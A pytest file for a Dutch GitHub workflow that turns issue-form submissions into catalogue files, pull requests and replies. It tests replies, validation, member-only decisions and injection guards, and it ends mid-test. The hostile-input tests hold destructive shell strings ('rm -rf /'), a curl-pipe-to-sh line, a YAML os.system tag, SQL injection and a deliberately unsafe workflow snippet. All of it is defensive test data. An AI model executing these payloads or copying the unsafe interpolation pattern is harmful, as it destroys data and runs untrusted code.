"""Submitting without git: an issue made with a form becomes a file, a branch, a pull request and a Dutch reply.

The workflow (.github/workflows/aandragen.yml) only runs ``kompaswaaier verwerk-issue`` and the two shell
scripts in .github/scripts/; everything is tested here on saved issue bodies (tests/voorbeelden/issues/):
valid, incomplete, hostile and huge. The scripts run against a real git remote and a stand-in for ``gh``.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from kompaswaaier.load.document import load_bytes, load_file
from kompaswaaier.validate.catalog import check
from kompaswaaier.werkgroep import intake
from kwtest import EXAMPLES, FIXTURE, REPO

ISSUES = EXAMPLES / "issues"
TODAY = dt.date(2026, 11, 22)
FILED = dt.date(2026, 11, 20)
SCRIPTS = REPO / ".github" / "scripts"
WORKFLOWS = sorted((REPO / ".github" / "workflows").glob("*.yml"))

CHANGE = ("Wil je iets veranderen? Pas dit issue aan: klik op de drie puntjes rechtsboven je bericht en dan op **Edit**. "
          "Het voorstel en dit bericht worden dan vanzelf bijgewerkt.")
PROPOSAL = ("Het staat in een voorstel voor de werkgroep (een pull request); dat zie je rechts bij **Development**. "
            "Deze pull request maakt het issue dicht als hij wordt samengevoegd.")
NOT_MADE = "Ik heb daarom geen bestand gemaakt of bijgewerkt."
WERKGROEP_2 = "Werkgroep bouwsteen 2 (BPSW, Zorgthuisnl, MantelzorgNL, SPOT)"


@pytest.fixture
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of the frozen fixture catalogue in tmp_path/waaiers; paths print as waaiers/..."""
    shutil.copytree(FIXTURE, tmp_path / "waaiers")
    monkeypatch.chdir(tmp_path)
    return tmp_path / "waaiers"


def body(name: str, **changes: str) -> str:
    text = (ISSUES / name).read_text(encoding="utf-8")
    for old, new in changes.items():
        assert old in text, old
        text = text.replace(old, new)
    return text


def process(root: Path, text: str, form: str = "aanmelding", **issue: object) -> intake.Intake:
    return intake.process(form, intake.Issue(12, text, FILED, **issue), root, TODAY)  # type: ignore[arg-type]


def tree(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


# --- the form 'Nieuw instrument of voorbeeld aandragen' --------------------------------------

COMPLETE_REPLY = f"""\
Dank je wel voor je aanmelding van `Synthetische gesprekskaart mantelzorg`.

### Wat ik heb gemaakt
Het bestand `waaiers/2-netwerken/synthetische-gesprekskaart-mantelzorg.yml`, met status *ingediend*. {PROPOSAL}

### Wat de controle vond
Geen problemen: het bestand voldoet aan alle regels van de waaier.

### Komt het op de site?
Ja. Als de werkgroep het voorstel goedkeurt, staat het in de versie voor professionals met het niveau **Aangedragen, nog niet beoordeeld**.
Neemt de werkgroep het op, dan wordt het niveau **Opgenomen door de werkgroep**; dan komt het ook in de versie voor cliënten en naasten, als er een beschrijving voor hen is.

### Wat er nu gebeurt
{WERKGROEP_2} bekijkt het voorstel. Vragen stelt de werkgroep hier of in de pull request; je krijgt daarvan een e-mail van GitHub.
{CHANGE}
"""


def test_a_complete_submission_becomes_one_file_a_pull_request_and_a_reply(root: Path) -> None:
    before = tree(root)
    result = process(root, body("aanmelding-volledig.md"))
    assert tree(root) == before  # deciding touches nothing; the command writes
    assert result.reply == COMPLETE_REPLY
    path = "waaiers/2-netwerken/synthetische-gesprekskaart-mantelzorg.yml"
    assert list(result.files) == [path]
    assert result.branch == "kompaswaaier/issue-12" and result.makes_pull_request
    assert result.pr_title == "Aanmelding: Synthetische gesprekskaart mantelzorg"
    assert result.pr_body.splitlines()[:6] == [
        "Aanmelding met het formulier in #12, omgezet door de workflow *Aanmelding of besluit via een issue* "
        "(`kompaswaaier verwerk-issue`, dezelfde code als `kompaswaaier nieuw --uit-issue`).",
        "",
        "Closes #12 (GitHub sluit het issue als deze pull request wordt samengevoegd.)",
        "",
        f"- Nieuw bestand: `{path}` (status *ingediend*)",
        f"- Bouwsteen 2: {WERKGROEP_2}",
    ]
    assert result.commit_message == ("Add entry synthetische-gesprekskaart-mantelzorg from issue #12\n\n"
                                     "Submitted with the issue form; converted by kompaswaaier verwerk-issue.\n")
    doc, problems = load_bytes(result.files[path].encode("utf-8"), path)
    assert problems == [] and doc is not None
    data = doc.data
    assert data["status"] == "ingediend" and data["kosten"] == "Gratis te downloaden"
    assert data["aangedragen"] == {"door": "Synthetische Cliëntenraad", "perspectief": "mens-met-zorgvraag",
                                   "datum": FILED.isoformat()}
    assert {k: v["oordeel"] for k, v in data["criteria"].items()} == dict.fromkeys(data["criteria"], "ja")
    written = root / "2-netwerken" / "synthetische-gesprekskaart-mantelzorg.yml"
    written.write_text(result.files[path], encoding="utf-8")
    assert check([str(written)], today=TODAY).problems == []


INCOMPLETE_REPLY = f"""\
Dank je wel voor je aanmelding van `Synthetisch praatplaatje`.

### Wat ik heb gemaakt
Het bestand `waaiers/1-wensen-en-behoeften/synthetisch-praatplaatje.yml`, met status *ingediend*. {PROPOSAL}

### Wat de controle vond
Geen problemen: het bestand voldoet aan alle regels van de waaier.

### Komt het op de site?
Nog niet. Dit houdt het nog tegen:
- criterium 'bestaand product' is 'onbekend'
- criterium 'kosteloos te gebruiken' is 'onbekend'
- criterium 'in lijn met het Kompas' is 'onbekend'
- de kosten zijn onbekend

Is dat opgelost, dan komt het in de versie voor organisaties met het niveau **Aangedragen, nog niet beoordeeld**.
Neemt de werkgroep het op, dan wordt het niveau **Opgenomen door de werkgroep**; dan komt het ook in de versie voor cliënten en naasten, als er een beschrijving voor hen is.

### Wat verder nog onbekend is
Dit houdt publicatie niet tegen, maar helpt de werkgroep. Weet je het, vul het dan aan in dit issue:

- wie het gemaakt heeft of beheert
- namens wie je het aandraagt
- vanuit welk perspectief je het aandraagt
- het webadres van de bron `Een folder die ik kreeg op een synthetische bijeenkomst`

### Wat er nu gebeurt
Werkgroep bouwsteen 1 (BPSW, NIP, MantelzorgNL, SPOT) bekijkt het voorstel. Vragen stelt de werkgroep hier of in de pull request; je krijgt daarvan een e-mail van GitHub.
{CHANGE}
"""


def test_an_incomplete_submission_is_made_and_the_reply_says_what_holds_it_back(root: Path) -> None:
    result = process(root, body("aanmelding-onvolledig.md"))
    assert result.reply == INCOMPLETE_REPLY
    (path, text), = result.files.items()
    doc, problems = load_bytes(text.encode("utf-8"), path)
    assert problems == [] and doc is not None
    assert doc.data["kosten"] == "onbekend" and doc.data["criteria"]["kosteloos"]["oordeel"] == "onbekend"
    assert "# bron zonder webadres, nog op te zoeken: Een folder die ik kreeg op een synthetische bijeenkomst" in text


def test_missing_answers_make_no_file_and_the_reply_names_the_questions(root: Path) -> None:
    result = process(root, body("aanmelding-leeg.md"))
    assert result.files == {} and not result.makes_pull_request
    assert result.reply == f"""\
Dank je wel voor je aanmelding.

### Wat nog ontbreekt
Zonder deze antwoorden kan ik er nog geen bestand van maken:

```text
Naam van het instrument of voorbeeld: de naam van het instrument of voorbeeld ontbreekt
Naam van het instrument of voorbeeld: kies een korte naam voor het bestand (kleine letters, cijfers en streepjes)
Bij welke bouwsteen hoort het vooral?: kies de bouwsteen (1 tot en met 5)
Waarvoor gebruik je het?: waarvoor je het gebruikt ontbreekt
```

{NOT_MADE}
{CHANGE}
"""


def test_an_issue_that_is_not_the_form_gets_a_reply_and_no_file(root: Path) -> None:
    result = process(root, "Ik ken een goed instrument: kijk op example.org.\n")
    assert result.files == {}
    assert result.reply == f"""\
Dank je wel voor je aanmelding. Ik kon het formulier helaas niet goed lezen:

```text
dit lijkt geen aanmelding met het formulier 'Nieuw instrument of voorbeeld aandragen'; deze kopjes ontbreken: \
'### Naam van het instrument of voorbeeld'; '### Bij welke bouwsteen hoort het vooral?'; '### Wat voor soort is het?'; \
'### Korte beschrijving'; '### Waarvoor gebruik je het?'; '### Waar komt deze informatie vandaan?'
```

{NOT_MADE}
Klopt er iets niet in het formulier? Pas dit issue aan; dan probeer ik het opnieuw.
"""


def test_an_answer_outside_the_lists_is_named(root: Path) -> None:
    result = process(root, body("aanmelding-volledig.md", **{"Mantelzorger, Wijkverpleegkundige": "Mantelzorger, Buurman"}))
    assert result.files == {}
    assert result.reply.splitlines()[2:6] == [
        "```text",
        "het issue bevat antwoorden die niet in de vaste lijsten staan:",
        "  Voor wie is het bedoeld? 'Buurman' staat niet in de lijst rollen",
        "```",
    ]


def test_an_existing_name_or_title_is_never_made_twice(root: Path) -> None:
    same_slug = process(root, body("aanmelding-volledig.md", **{"Synthetische gesprekskaart mantelzorg": "ediz"}))
    assert same_slug.files == {}
    assert same_slug.reply == f"""\
Dank je wel voor je aanmelding van `ediz`.

### Dit item bestaat al
Er staat al een item met de naam `ediz` in de waaier: `waaiers/2-netwerken/ediz.yml`. {NOT_MADE}
Klopt er iets niet aan het bestaande item? Meld het met het formulier **Een item klopt niet of is verouderd**. \
Gaat het om iets anders met bijna dezelfde naam? Pas dan de naam in dit issue aan.
"""
    same_title = process(root, body("aanmelding-volledig.md", **{
        "Synthetische gesprekskaart mantelzorg": "EDIZ: Ervaren Druk door Informele Zorg"}))
    assert same_title.files == {}
    assert same_title.reply == f"""\
Dank je wel voor je aanmelding van `EDIZ: Ervaren Druk door Informele Zorg`.

### Wat niet klopt
De controle van de waaier vond 1 probleem in wat het bestand zou worden:

```text
Naam van het instrument of voorbeeld (titel): staat ook in waaiers/2-netwerken/ediz.yml; elk item mag maar één keer in de waaier staan
```

{NOT_MADE}
{CHANGE}
"""


@pytest.fixture
def no_processes(monkeypatch: pytest.MonkeyPatch) -> None:
    """Fail the test if anything starts a program or a shell."""
    def refuse(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("er werd een programma gestart")

    monkeypatch.setattr(subprocess.Popen, "__init__", refuse)
    for name in ("system", "popen", "execv", "execve", "execvp", "spawnv", "posix_spawn", "posix_spawnp", "fork"):
        if hasattr(os, name):
            monkeypatch.setattr(os, name, refuse)


def test_hostile_text_stays_text(root: Path, no_processes: None) -> None:
    """Shell metacharacters, backticks, YAML tags and document markers, HTML, mentions, a fake marker, bidi and NUL."""
    result = process(root, body("aanmelding-vijandig.md"))
    path = "waaiers/2-netwerken/synthetisch-kaart-rm-rf-echo-pwned-status-opgenomen.yml"
    assert list(result.files) == [path]  # the file name is letters, digits and hyphens only
    text = result.files[path]
    doc, problems = load_bytes(text.encode("utf-8"), path)
    assert problems == [] and doc is not None
    data = doc.data
    assert data["titel"] == "SYNTHETISCH `kaart` $(rm -rf /) ``; echo pwned # --- status: opgenomen"
    assert data["status"] == "ingediend"  # '---\nstatus: opgenomen' in the answers is text, not a field
    assert data["kosten"] == "!!python/object:os.system"
    assert data["doel"] == "`rm -rf /`; $(curl https://example.org/x | sh) && ${HOME} | tee /etc/passwd"
    assert data["eigenaar"] == "*alias &anker {x: y} [a, b] ? vraag | pijp > groter"
    assert data["aangedragen"]["door"] == "'; DROP TABLE items; --"
    assert data["samenvatting"]["professionals"].split("\n\n")[1] == (
        'key: !!python/object/apply:os.system ["rm -rf /"] --- status: opgenomen ... %YAML\n1.1')
    assert data["criteria"]["mens_centraal"]["toelichting"] == "Omgekeerd gnineiw en een nulteken."  # no U+202E, no NUL
    assert yaml.safe_load(text)["titel"] == data["titel"]  # any YAML reader sees text, never an object
    # In the reply every answer stands in a code span: no mention, link, HTML or early end of the comment.
    assert result.reply.splitlines()[0] == (
        "Dank je wel voor je aanmelding van ```SYNTHETISCH `kaart` $(rm -rf /) ``; echo pwned # --- status: opgenomen```.")
    assert "- het webadres van de bron `<!-- kompaswaaier:verwerk-issue -->`" in result.reply.splitlines()
    assert "<script>" not in result.reply and "@octocat" not in result.reply
    assert result.pr_title == "Aanmelding: SYNTHETISCH `kaart` $(rm -rf /) ``; echo pwned # --- status: opgenomen"


def test_huge_bodies_are_refused_or_checked(root: Path) -> None:
    too_long = process(root, "### Naam van het instrument of voorbeeld\n\n" + "x" * 70_000)
    assert too_long.files == {}
    assert too_long.reply == ("Dit issue is te lang om te verwerken (meer dan 65.536 tekens; zoveel bewaart GitHub niet). "
                              f"{NOT_MADE}\n")
    long_answer = process(root, body("aanmelding-volledig.md", **{"Gratis te downloaden": "Gratis. " + "x" * 25_000}))
    assert long_answer.files == {}
    assert "Wat kost het? (kosten): waarde is te lang (25008 tekens; hoogstens 20000)" in long_answer.reply.splitlines()


def test_a_branch_changed_by_someone_else_is_left_alone(root: Path) -> None:
    result = process(root, body("aanmelding-volledig.md"), branch_edited=True)
    assert result.files == {} and not result.makes_pull_request
    made = result.reply.split("\n\n")[1]
    assert made == ("### Wat ik heb gemaakt\nNiets nieuws. Iemand van de werkgroep heeft het voorstel (de tak "
                    "`kompaswaaier/issue-12`) al zelf aangepast. Om dat werk niet te overschrijven, verander ik het "
                    "voorstel niet meer. Wil je nog iets veranderen? Zet het dan als reactie in de pull request.")
    assert result.reply.split("\n\n")[2:] == COMPLETE_REPLY.split("\n\n")[2:]


# --- the form 'Besluit van de werkgroep' ----------------------------------------------------

def test_a_members_decision_goes_to_the_decision_code(root: Path) -> None:
    """The dispatch point: for a member, the form 'Besluit van de werkgroep' is decision.intake (as `beoordeel`)."""
    from kompaswaaier.werkgroep import decision

    before = (root / "2-netwerken" / "ediz.yml").read_text(encoding="utf-8")
    result = process(root, body("besluit-ediz.md"), form="besluit", association="MEMBER")
    assert (root / "2-netwerken" / "ediz.yml").read_text(encoding="utf-8") == before  # the command writes, not this
    assert result == decision.intake(intake.Issue(12, body("besluit-ediz.md"), FILED, "MEMBER"), root, TODAY)
    assert list(result.files) == ["waaiers/2-netwerken/ediz.yml"] and result.branch == "kompaswaaier/issue-12"
    assert "Closes #12 (GitHub sluit het issue als deze pull request wordt samengevoegd.)" in result.pr_body.splitlines()
    doc, problems = load_bytes(result.files["waaiers/2-netwerken/ediz.yml"].encode("utf-8"), "ediz.yml")
    assert problems == [] and doc is not None
    assert doc.data["status"] == "opgenomen"
    assert doc.data["beoordeling"]["bron"]["url"] == "https://example.org/synthetisch/verslag-werkgroep-2026-11-20"
    edited = process(root, body("besluit-ediz.md"), form="besluit", association="OWNER", branch_edited=True)
    assert edited.files == {} and "kompaswaaier/issue-12" in edited.reply


def test_only_members_record_decisions(root: Path) -> None:
    for role in ("NONE", "CONTRIBUTOR", "FIRST_TIME_CONTRIBUTOR"):
        result = process(root, body("besluit-ediz.md"), form="besluit", association=role)
        assert result.files == {}
        assert result.reply == (
            "Dank je wel. Een besluit van de werkgroep kan alleen worden vastgelegd door leden van de werkgroep "
            f"(mensen met schrijfrechten in deze repository). {NOT_MADE}\n"
            "Wil je iets zeggen over een item? Zet het als reactie bij dit issue, of gebruik het formulier "
            "**Een item klopt niet of is verouderd**.\n")


def test_a_decision_that_cannot_be_recorded_makes_nothing(root: Path) -> None:
    for changes in ({"\nediz\n": "\nbestaat-niet\n"}, {"2026-11-20\n": "2027-01-01\n"}, {"\nediz\n": "\nmantelscan\n"}):
        result = process(root, body("besluit-ediz.md", **changes), form="besluit", association="OWNER")
        assert result.files == {} and NOT_MADE in result.reply.splitlines()
    wrong_form = process(root, body("aanmelding-volledig.md"), form="besluit", association="OWNER")
    assert wrong_form.files == {} and "deze kopjes ontbreken" in wrong_form.reply


# --- the command ----------------------------------------------------------------------------

def test_the_command_writes_the_file_and_what_the_workflow_needs(run_cli, root: Path, tmp_path: Path) -> None:
    out = tmp_path / "uit"
    result = run_cli("verwerk-issue", "--formulier", "aanmelding", "--nummer", "12", "--tekst",
                     str(ISSUES / "aanmelding-volledig.md"), "--uitvoer", str(out), "--vandaag", TODAY.isoformat(),
                     "--datum", "2026-11-20T09:30:00Z")
    assert result.code == 0, result.err
    assert result.lines == [
        f"Antwoord geschreven: {(out / 'antwoord.md').relative_to(tmp_path).as_posix()}",
        "Bestand geschreven: waaiers/2-netwerken/synthetische-gesprekskaart-mantelzorg.yml",
        "Pull request klaargezet voor de tak kompaswaaier/issue-12.",
    ]
    assert (out / "antwoord.md").read_text(encoding="utf-8") == COMPLETE_REPLY
    assert (out / "tak.txt").read_text(encoding="utf-8") == "kompaswaaier/issue-12\n"
    assert (out / "pr-titel.txt").read_text(encoding="utf-8") == "Aanmelding: Synthetische gesprekskaart mantelzorg"
    assert (out / "bestanden.txt").read_text(encoding="utf-8") == \
        "waaiers/2-netwerken/synthetische-gesprekskaart-mantelzorg.yml\n"
    assert (out / "commit.txt").read_text(encoding="utf-8").startswith("Add entry synthetische-gesprekskaart-mantelzorg")
    assert (out / "pr-tekst.md").read_text(encoding="utf-8").startswith("Aanmelding met het formulier in #12")
    written = root / "2-netwerken" / "synthetische-gesprekskaart-mantelzorg.yml"
    doc, problems = load_file(written)
    assert problems == [] and doc is not None and doc.data["aangedragen"]["datum"] == "2026-11-20"
    assert run_cli("controleer", "--vandaag", TODAY.isoformat(), str(written)).code == 0


def test_the_command_writes_only_the_reply_when_nothing_is_made(run_cli, root: Path, tmp_path: Path) -> None:
    before = tree(root)
    out = tmp_path / "uit"
    result = run_cli("verwerk-issue", "--formulier=aanmelding", "--nummer=3", f"--tekst={ISSUES / 'aanmelding-leeg.md'}",
                     f"--uitvoer={out}", "--vandaag=2026-11-22")
    assert result.code == 0, result.err
    assert result.lines[1] == "Geen bestand gemaakt, dus geen pull request."
    assert sorted(p.name for p in out.iterdir()) == ["antwoord.md"]
    assert tree(root) == before


@pytest.mark.parametrize(("value", "day"), [
    (None, "2026-11-22"), ("2026-11-20", "2026-11-20"), ("2026-11-20T09:30:00Z", "2026-11-20"),
    ("2026-11-20T23:30:00Z", "2026-11-21"),  # half past midnight in the Netherlands
    ("2026-06-30T22:30:00Z", "2026-07-01"),  # summer time: UTC+2
])
def test_the_day_of_filing_is_the_day_in_the_netherlands(value: str | None, day: str) -> None:
    from kompaswaaier.commands.verwerk_issue import filed_date

    assert filed_date(value, TODAY).isoformat() == day


@pytest.mark.parametrize(("args", "message"), [
    (("--nummer", "0"), "kompaswaaier: fout: --nummer: 0 is geen nummer van een issue\n"),
    (("--datum", "gisteren"), "kompaswaaier: fout: --datum: 'gisteren' is geen datum (JJJJ-MM-DD) of tijdstip\n"),
    (("--tekst", "bestaat/niet.md"), "kompaswaaier: fout: kan bestaat/niet.md niet lezen (No such file or directory)\n"),
    (("--formulier", "melding"), None),
])
def test_wrong_use_exits_2(run_cli, root: Path, tmp_path: Path, args: tuple[str, ...], message: str | None) -> None:
    base = {"--formulier": "aanmelding", "--nummer": "12", "--tekst": str(ISSUES / "aanmelding-volledig.md"),
            "--uitvoer": str(tmp_path / "uit")}
    base.update(dict(zip(args[::2], args[1::2])))
    result = run_cli("verwerk-issue", *[x for kv in base.items() for x in kv])
    assert result.code == 2
    if message:
        assert result.err == message
    else:
        assert "argument --formulier: ongeldige keuze: 'melding' (kies uit 'aanmelding', 'besluit')" in result.err
    assert not (tmp_path / "uit").exists()


# --- the workflows ---------------------------------------------------------------------------

def _workflow(path: Path) -> dict:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["on"] = data.pop(True)  # YAML 1.1 reads the key 'on' as true
    return data


def _steps(data: dict) -> list[dict]:
    return [step for job in data["jobs"].values() for step in job.get("steps", [])]


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_no_expression_is_ever_put_in_a_shell_command(path: Path) -> None:
    """Injection guard: issue, comment and pull request texts reach a script only through env or a file."""
    for step in _steps(_workflow(path)):
        script = step.get("run", "")
        assert "${{" not in script, f"{path.name}: {step.get('name')}: gebruik env: in plaats van ${{{{ }}}} in run:"
        for context in ("github.event.issue", "github.event.comment", "github.event.pull_request", "github.head_ref"):
            assert context not in script, f"{path.name}: {step.get('name')}: {context} in run:"


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_only_githubs_own_actions_and_least_privilege(path: Path) -> None:
    data = _workflow(path)
    for step in _steps(data):
        if "uses" in step:
            assert step["uses"].startswith("actions/"), f"{path.name}: {step['uses']} is geen actie van GitHub zelf"
    assert data["permissions"] in ({}, {"contents": "read"})  # more only per job, where needed


def test_the_guard_can_fail(tmp_path: Path) -> None:
    bad = tmp_path / "kapot.yml"
    bad.write_text("on: issues\npermissions: {}\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n"
                   "      - run: echo \"${{ github.event.issue.body }}\"\n", encoding="utf-8")
    with pytest.raises(AssertionError, match="gebruik env:"):
        test_no_expression_is_ever_put_in_a_shell_command(bad)


def test_the_submission_workflow() -> None:
    data = _workflow(REPO / ".github" / "workflows" / "aandragen.yml")
    assert data["on"] == {"issues": {"types": ["opened", "edited"]}}
    assert data["permissions"] == {}
    job = data["jobs"]["verwerken"]
    for label in intake.FORMS:  # the workflow runs for exactly the labels the code knows
        assert f"contains(github.event.issue.labels.*.name, '{label}')" in job["if"]
    assert "github.event.issue.state == 'open'" in job["if"]
    assert job["permissions"] == {"contents": "write", "pull-requests": "write", "issues": "write"}
    assert job["env"]["TAK"] == intake.BRANCH_PREFIX + "${{ github.event.issue.number }}"
    runs = "\n".join(step.get("run", "") for step in job["steps"])
    assert "jq --raw-output '.issue.body // \"\"' \"$GITHUB_EVENT_PATH\" > \"$RUNNER_TEMP/issue.md\"" in runs
    assert "kompaswaaier verwerk-issue --formulier=\"$FORMULIER\"" in runs
    assert f".github/scripts/reactie.sh \"$NUMMER\" {intake.REPLY_MARKER} " in runs
    assert ".github/scripts/voorstel.sh indienen" in runs and ".github/scripts/voorstel.sh bewerkt" in runs


def test_every_form_label_has_a_handler() -> None:
    labels = set()
    for form in sorted((REPO / ".github" / "ISSUE_TEMPLATE").glob("*.yml")):
        labels |= set(yaml.safe_load(form.read_text(encoding="utf-8")).get("labels", []))
    assert labels - {"melding"} == set(intake.FORMS)  # 'Een item klopt niet' is for people, not for the bot


# --- the scripts, with a stand-in for gh -----------------------------------------------------

GH = """\
#!{python}
import json, os, sys
args = sys.argv[1:]
entry = {{"args": args}}
for flag in ("-F", "--field"):
    for i, arg in enumerate(args[:-1]):
        if arg == flag and "=@" in args[i + 1]:
            key, name = args[i + 1].split("=@", 1)
            entry[key] = open(name, encoding="utf-8").read()
with open(os.environ["GH_LOG"], "a", encoding="utf-8") as fh:
    fh.write(json.dumps(entry) + "\\n")
method = args[args.index("--method") + 1] if "--method" in args else "GET"
path = next(a for a in args[1:] if a.startswith("repos/"))
if method == "GET" and path.endswith("/comments"):
    print(os.environ.get("GH_COMMENT", ""))
elif method == "GET" and "/pulls?" in path:
    print(os.environ.get("GH_PR", ""))
elif method == "POST" and path.endswith("/pulls"):
    print("7")
"""


@pytest.fixture
def gh(tmp_path: Path) -> dict[str, str]:
    """An environment whose `gh` records every call in GH_LOG (one JSON object per line)."""
    folder = tmp_path / "bin"
    folder.mkdir()
    (folder / "gh").write_text(GH.format(python=sys.executable), encoding="utf-8")
    (folder / "gh").chmod(0o755)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GIT_", "GH_"))}
    env.update(PATH=f"{folder}{os.pathsep}{env['PATH']}", GH_LOG=str(tmp_path / "gh.log"),
               GITHUB_REPOSITORY="kompaswaaier/kompaswaaier", GIT_CONFIG_GLOBAL=os.devnull, GIT_CONFIG_NOSYSTEM="1")
    return env


def calls(env: dict[str, str]) -> list[dict]:
    log = Path(env["GH_LOG"])
    lines = log.read_text(encoding="utf-8").splitlines() if log.exists() else []
    log.unlink(missing_ok=True)
    return [json.loads(line) for line in lines]


def script(name: str, *args: str, env: dict[str, str], cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["bash", str(SCRIPTS / name), *args], env=env, cwd=cwd, capture_output=True, text=True, timeout=60)


def test_the_reply_is_placed_once_and_then_edited_in_place(gh: dict[str, str], tmp_path: Path) -> None:
    text = tmp_path / "antwoord.md"
    text.write_text("Dank je wel. `$(rm -rf /)` blijft tekst.\n", encoding="utf-8")
    first = script("reactie.sh", "12", intake.REPLY_MARKER, str(text), env=gh)
    assert (first.returncode, first.stdout) == (0, "Reactie bij #12 geplaatst.\n"), first.stderr
    listing, post = calls(gh)
    assert listing["args"][:3] == ["api", "--paginate", "repos/kompaswaaier/kompaswaaier/issues/12/comments"]
    assert 'startswith(\\"<!-- kompaswaaier:verwerk-issue -->\\")' in json.dumps(listing["args"][-1])
    assert post["args"][:4] == ["api", "--method", "POST", "repos/kompaswaaier/kompaswaaier/issues/12/comments"]
    assert post["body"] == "<!-- kompaswaaier:verwerk-issue -->\nDank je wel. `$(rm -rf /)` blijft tekst.\n"
    again = script("reactie.sh", "12", intake.REPLY_MARKER, str(text), env={**gh, "GH_COMMENT": "99"})
    assert (again.returncode, again.stdout) == (0, "Reactie 99 bij #12 bijgewerkt.\n"), again.stderr
    _listing, patch = calls(gh)
    assert patch["args"][:4] == ["api", "--method", "PATCH", "repos/kompaswaaier/kompaswaaier/issues/comments/99"]


@pytest.mark.parametrize(("args", "error"), [
    (("12; rm -rf /", "kompaswaaier:verschil"), "reactie.sh: '12; rm -rf /' is geen nummer van een issue of pull request\n"),
    (("12", 'x" or true'), "reactie.sh: de markering mag alleen kleine letters, cijfers, ':' en '-' bevatten\n"),
])
def test_the_reply_script_refuses_odd_arguments(gh: dict[str, str], tmp_path: Path, args: tuple[str, str], error: str) -> None:
    text = tmp_path / "antwoord.md"
    text.write_text("x\n", encoding="utf-8")
    result = script("reactie.sh", *args, str(text), env=gh)
    assert (result.returncode, result.stderr) == (2, error)
    assert calls(gh) == []


def _git(cwd: Path, *args: str, env: dict[str, str]) -> str:
    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True).stdout


@pytest.fixture
def repo(tmp_path: Path, gh: dict[str, str]) -> tuple[Path, dict[str, str]]:
    """A clone of a bare 'origin' whose main holds one file; the workflow's checkout, in small."""
    env = {**gh, "TAK": "kompaswaaier/issue-12", "BASIS": "main"}
    origin = tmp_path / "origin.git"
    _git(tmp_path, "init", "--quiet", "--bare", "--initial-branch=main", str(origin), env=env)
    work = tmp_path / "werk"
    _git(tmp_path, "clone", "--quiet", str(origin), str(work), env=env)
    (work / "waaiers").mkdir()
    (work / "waaiers" / "bestaand.yml").write_text("slug: bestaand\n", encoding="utf-8")
    _git(work, "add", ".", env=env)
    _git(work, "-c", "user.name=Beheer", "-c", "user.email=beheer@example.org", "commit", "--quiet", "-m", "start", env=env)
    _git(work, "push", "--quiet", "origin", "HEAD:refs/heads/main", env=env)
    return work, env


def _output(work: Path, text: str, title: str = "Aanmelding: `x` $(rm -rf /)") -> Path:
    """What `kompaswaaier verwerk-issue --uitvoer` leaves, and the file in the checkout."""
    (work / "waaiers" / "nieuw.yml").write_text(text, encoding="utf-8")
    out = work.parent / "uit"
    out.mkdir(exist_ok=True)
    for name, content in {"tak.txt": "kompaswaaier/issue-12\n", "bestanden.txt": "waaiers/nieuw.yml\n",
                          "commit.txt": "Add entry nieuw from issue #12\n", "pr-titel.txt": title,
                          "pr-tekst.md": "Closes #12\n"}.items():
        (out / name).write_text(content, encoding="utf-8")
    return out


def test_the_branch_is_made_then_remade_and_the_pull_request_made_then_edited(repo: tuple[Path, dict[str, str]]) -> None:
    work, env = repo
    origin = work.parent / "origin.git"
    assert script("voorstel.sh", "bewerkt", env=env, cwd=work).stdout == "false\n"
    first = script("voorstel.sh", "indienen", str(_output(work, "slug: nieuw\n")), env=env, cwd=work)
    assert first.returncode == 0, first.stderr
    assert first.stdout == "Tak kompaswaaier/issue-12 gepusht.\nPull request #7 gemaakt.\n"
    assert _git(origin, "show", "kompaswaaier/issue-12:waaiers/nieuw.yml", env=env) == "slug: nieuw\n"
    assert _git(origin, "log", "--format=%an <%ae>|%s", "main..kompaswaaier/issue-12", env=env) == \
        "github-actions[bot] <41898282+github-actions[bot]@users.noreply.github.com>|Add entry nieuw from issue #12\n"
    listing, create = calls(env)
    assert listing["args"] == ["api", "repos/kompaswaaier/kompaswaaier/pulls?state=open&head=kompaswaaier:kompaswaaier/issue-12",
                               "--jq", ".[0].number // empty"]
    assert create["args"][:4] == ["api", "--method", "POST", "repos/kompaswaaier/kompaswaaier/pulls"]
    assert "head=kompaswaaier/issue-12" in create["args"] and "base=main" in create["args"]
    assert (create["title"], create["body"]) == ("Aanmelding: `x` $(rm -rf /)", "Closes #12\n")
    assert script("voorstel.sh", "bewerkt", env=env, cwd=work).stdout == "false\n"  # only the workflow's own commit

    # The issue is edited: a fresh checkout of main, a new file, the same branch force-pushed, the pull request edited.
    _git(work, "switch", "--quiet", "main", env=env)
    again = script("voorstel.sh", "indienen", str(_output(work, "slug: nieuw\ntitel: Beter\n")), env={**env, "GH_PR": "7"}, cwd=work)
    assert again.returncode == 0, again.stderr
    assert again.stdout == "Tak kompaswaaier/issue-12 gepusht.\nPull request #7 bijgewerkt.\n"
    assert _git(origin, "show", "kompaswaaier/issue-12:waaiers/nieuw.yml", env=env) == "slug: nieuw\ntitel: Beter\n"
    assert len(_git(origin, "log", "--format=%h", "main..kompaswaaier/issue-12", env=env).split()) == 1
    _listing, edit = calls(env)
    assert edit["args"][:4] == ["api", "--method", "PATCH", "repos/kompaswaaier/kompaswaaier/pulls/7"]

    # Edited without a change in the files: nothing is pushed.
    _git(work, "switch", "--quiet", "main", env=env)
    same = script("voorstel.sh", "indienen", str(_output(work, "slug: nieuw\ntitel: Beter\n")), env={**env, "GH_PR": "7"}, cwd=work)
    assert same.stdout.splitlines()[0] == "De tak kompaswaaier/issue-12 had al precies deze bestanden; niets gepusht."


def test_a_branch_with_someone_elses_commit_is_never_overwritten(repo: tuple[Path, dict[str, str]]) -> None:
    work, env = repo
    assert script("voorstel.sh", "indienen", str(_output(work, "slug: nieuw\n")), env=env, cwd=work).returncode == 0
    other = work.parent / "ander"
    _git(work.parent, "clone", "--quiet", "--branch", "kompaswaaier/issue-12", str(work.parent / "origin.git"), str(other), env=env)
